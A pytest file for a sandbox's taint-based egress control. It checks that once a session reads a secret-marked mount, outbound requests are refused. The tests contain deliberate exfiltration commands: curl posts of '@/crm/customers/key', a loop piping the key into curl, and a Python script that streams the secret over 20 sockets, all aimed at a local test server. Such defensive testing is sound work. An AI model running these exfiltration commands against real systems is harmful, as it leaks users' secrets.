"""A session that has read a path marked secret: its network is narrower from then on (B13). Real sandboxes, real gates."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.harness import Quiet, Served, require_engine
from session.supervised import Place
from stockade.core.frozen import replace
from stockade.core.values import Grant, Mount, Origin, Policy, Workspace
from stockade.session import live
from walls.boxes import PYTHON, PYTHON_MOUNTS, own_places, require, until

pytestmark = pytest.mark.wall

SECRET = "the-secret-in-the-file-5d1c"


@pytest.fixture
def server() -> Iterator[Any]:
    """Takes whatever is sent, as it comes: `bodies` by path, also of requests that never ended."""

    bodies: dict[str, bytearray] = {}

    class Handler(Quiet):
        def do_POST(self) -> None:
            body = bodies[self.path] = bytearray()
            left = int(self.headers["content-length"])
            while left and (piece := self.rfile.read1(left)):
                body += piece
                left -= len(piece)
            self.send_response(200)
            self.send_header("content-length", "0")
            self.end_headers()

    require_engine()
    served: Any = Served(Handler)
    served.bodies = bodies
    yield served
    served.close()


@pytest.fixture
def crm(tmp_path: Path) -> Path:
    folder = tmp_path / "crm"
    (folder / "customers").mkdir(parents=True)
    (folder / "customers/key").write_text(SECRET)
    return folder


def policy(server: Any, crm: Path, *, secret: bool = True) -> Policy:
    def grant(path: str, *, after: bool = False) -> Grant:
        return Grant(
            "open.localhost",
            server.server_port,
            "http",
            methods=("GET", "POST"),
            paths=(path,),
            private=True,
            after_secret=after,
            max_upload=1 << 24,
        )

    mount = Mount(str(crm), "/crm", secret=secret)
    return Policy(mounts=(*PYTHON_MOUNTS, mount), grants=(grant("/public/**"), grant("/model/**", after=True)))


def post(server: Any, path: str, data: str) -> str:
    """A shell command that sends `data` (as curl's -d takes it) and prints the status and, of a refusal, the rule."""
    url = f"http://open.localhost:{server.server_port}{path}"
    return f"curl -sS -m 10 --noproxy '' -x http://127.0.0.1:3128 -w '[%{{http_code}}]' -d '{data}' {url} 2>&1; "


STEAL = "@/crm/customers/key"


def test_what_was_read_does_not_leave(place: Place, server: Any, crm: Path) -> None:
    script = post(server, "/public/before", "note") + "cat /crm/customers/key; " + post(server, "/public/after", STEAL)
    control = place.run("sh", "-c", script, policy=policy(server, crm, secret=False))
    assert control.returncode == 0 and server.bodies.pop("/public/after").decode() == SECRET

    done = place.run(
        "sh", "-c", script + post(server, "/public/again", "a note") + post(server, "/model/x", STEAL), policy=policy(server, crm)
    )
    assert SECRET in done.stdout.decode() and done.stdout.endswith(b"[200]")
    assert {path: body.decode() for path, body in server.bodies.items()} == {"/public/before": "note", "/model/x": SECRET}
    assert b"after-secret" in done.stdout and b"/crm was opened, which is secret" in done.stderr
    session = [event for event in place.ledger() if event["session"] == place.ledger()[-1]["session"]]
    taints = [event for event in session if event["kind"] == "taint"]
    assert [event["mount"] for event in taints] == ["/crm"]
    refused = [event for event in session if event["kind"] == "egress" and event["effect"] == "deny"]
    assert {event["rule"] for event in refused} == {"after-secret"} and session.index(taints[0]) < session.index(refused[0])


def test_what_was_not_read_changes_nothing(place: Place, server: Any, crm: Path) -> None:
    script = "stat /crm/customers/key; ls -ld /crm; sleep 0.5; " + post(server, "/public/x", "note")
    done = place.run("sh", "-c", script, policy=policy(server, crm))
    assert done.stdout.endswith(b"[200]") and bytes(server.bodies["/public/x"]) == b"note"
    assert not [event for event in place.ledger() if event["kind"] == "taint"]


def test_read_before_the_gate_runs(place: Place, server: Any, crm: Path) -> None:
    done = place.run("sh", "-c", f"cat /crm/customers/key; sleep 0.3; {post(server, '/public/x', STEAL)}", policy=policy(server, crm))
    assert b"after-secret" in done.stdout and not server.bodies
    kinds = [event["kind"] for event in place.ledger()]
    assert kinds.index("taint") < kinds.index("gate.start")


@pytest.mark.parametrize("how", ["a file", "a host"])
def test_what_does_not_hold_any_more_is_shown(place: Place, server: Any, crm: Path, how: str) -> None:
    named = policy(server, crm)
    source = replace(named.grants[0], paths=("/source/**",), secret=True, origin=Origin("user", "source"))
    read = "cat /crm/customers/key" if how == "a file" else post(server, "/source/x", "note").rstrip("; ")
    run = place.start(
        "sh", "-c", f"{read}; touch read; until [ -e go ]; do sleep 0.1; done", policy=replace(named, grants=(*named.grants, source))
    )
    try:
        assert until((place.work / "read").exists, 20)

        def listed(*words: str) -> str:
            argv = [sys.executable, "-m", "stockade", "session", "grants", place.ledger()[-1]["session"], *words]
            return subprocess.run(argv, env=place.env, capture_output=True, text=True, timeout=60).stdout

        assert until(lambda: "has come in" in listed(), 20)
        assert [one["off"] for one in json.loads(listed("--json"))] == [True, False, False]
    finally:
        (place.work / "go").touch()
        _, err = run.communicate(timeout=30)
    assert err.decode().count("which is secret" if how == "a file" else "open.localhost was asked, whose answers are secret") == 1
    if how == "a host":
        assert [event.get("secret") for event in place.ledger() if event["kind"] == "egress"] == [1]


# Opens many uploads, waits until they flow, then reads the secret and sends it on all of them at once.
AT_ONCE = """
import os, socket, sys, time
port = int(sys.argv[1])
def start(number):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(b"POST http://open.localhost:%d/public/%d HTTP/1.1\\r\\nhost: open.localhost:%d\\r\\ncontent-length: 1000000\\r\\n\\r\\n" % (port, number, port))
    s.sendall(b"x" * 80000)  # more than is asked about at once: the request is decided, and goes on
    return s
made = [start(number) for number in range(20)]
while not os.path.exists("go"):
    time.sleep(0.01)
found = open("/crm/customers/key", "rb").read()
for s in made:
    try:
        s.sendall(found)
    except OSError:
        pass
time.sleep(0.5)
"""


@pytest.mark.parametrize("secret", [False, True])
def test_streams_under_way_are_cut_before_it_can_leave_in_one(place: Place, server: Any, crm: Path, secret: bool) -> None:
    run = place.start(PYTHON, "-I", "-S", "-c", AT_ONCE, str(server.server_port), policy=policy(server, crm, secret=secret))
    flowing = until(lambda: len(server.bodies) == 20 and all(len(body) == 80000 for body in server.bodies.values()), 30)
    (place.work / "go").touch()
    _, said = run.communicate(timeout=30)
    assert flowing, said
    time.sleep(0.2)
    with_it = [path for path, body in server.bodies.items() if SECRET.encode() in body]
    assert len(with_it) == (0 if secret else 20) and (b"/crm was opened" in said) == secret


def test_reading_and_sending_in_a_tight_loop(place: Place, server: Any, crm: Path) -> None:
    """Many requests at once, some of them under way while the secret is read for the first time: it is in none of them."""
    script = f"""
    {post(server, "/public/note", "note")}
    for i in $(seq 60); do {post(server, "/public/note", "note")} done >/dev/null &
    for i in $(seq 20); do (cat /crm/customers/key | curl -s -m 10 --noproxy '' -x http://127.0.0.1:3128 --data-binary @- \\
      http://open.localhost:{server.server_port}/public/$i) & {post(server, "/public/again", STEAL)} done > /tmp/out
    wait; cat /tmp/out
    """
    done = place.run("sh", "-c", script, policy=policy(server, crm), timeout=120)
    assert b"after-secret" in done.stdout and "/public/note" in server.bodies
    assert set(server.bodies) == {"/public/note"}


def test_in_a_program(tmp_path: Path, server: Any, crm: Path) -> None:
    require()
    (tmp_path / "work").mkdir()
    mounted = policy(server, crm)

    async def whole() -> list[str]:
        async with live.open_session(mounted, cwd=str(tmp_path / "work")) as session:

            async def send(path: str, data: str = STEAL) -> str:
                return (await session.exec(["sh", "-c", post(server, path, data)])).stdout.decode()[-5:]

            said = [await send("/public/before", "note"), await send("/model/before", "note")]
            assert (await session.read("/crm/customers/key")).decode() == SECRET
            return [*said, await send("/public/after"), await send("/model/after"), await send("/public/note", "note")]

    with own_places():
        assert asyncio.run(asyncio.wait_for(whole(), 60)) == ["[200]", "[200]", "[403]", "[200]", "[403]"]
    assert set(server.bodies) == {"/public/before", "/model/before", "/model/after"}


def test_a_file_of_the_workspace(place: Place, server: Any, crm: Path) -> None:
    """Our own look at the workspace, which reads such files, is no reading of the session's."""
    (place.work / ".envrc").write_text(SECRET)
    (place.work / "other").touch()
    marked = Policy(
        workspace=Workspace(str(place.work)),
        mounts=(Mount(str(place.work / ".envrc"), str(place.work / ".envrc"), secret=True),),
        grants=policy(server, crm).grants,
    )
    script = f"ls -la; cat other; sleep 0.8; {post(server, '/public/a', 'note')} echo >> .envrc; cp .envrc /tmp; {post(server, '/public/b', '@.envrc')}"
    done = place.run("sh", "-c", script, policy=marked)
    assert b"[200]" in done.stdout and b"after-secret" in done.stdout
    assert list(server.bodies) == ["/public/a"] and (place.work / ".envrc").read_text() == SECRET


def test_what_cannot_be_watched_stops_the_start(place: Place, server: Any, crm: Path) -> None:
    (place.work / "folder").mkdir()
    for source, code in ((place.work, "secret.workspace"), (place.work / "folder", "secret.workspace")):
        refused = Policy(mounts=(Mount(str(source), "/elsewhere", secret=True),), workspace=Workspace(str(place.work)))
        done = place.run("echo", "ran", policy=refused)
        assert done.returncode == 125 and json.loads(done.stderr.splitlines()[-1])["error"] == code and done.stdout == b""


def test_a_start_opens_nothing(place: Place, server: Any, crm: Path) -> None:
    """What makes the sandbox holds paths without opening them, also of a repository that is mounted writable."""
    (crm / ".git/objects").mkdir(parents=True)
    (crm / ".git/HEAD").write_text("ref: refs/heads/main\n")
    mounts = (Mount(str(crm), "/crm", "rw", secret=True), Mount(str(crm / "customers/key"), "/key", secret=True))
    for _ in range(5):
        assert place.run("sleep", "0.3", policy=Policy(mounts=mounts)).returncode == 0
    assert not [event for event in place.ledger() if event["kind"] == "taint"]
    assert place.run("sh", "-c", "cat /key; sleep 0.2", policy=Policy(mounts=mounts)).returncode == 0
    assert [event["mount"] for event in place.ledger() if event["kind"] == "taint"]
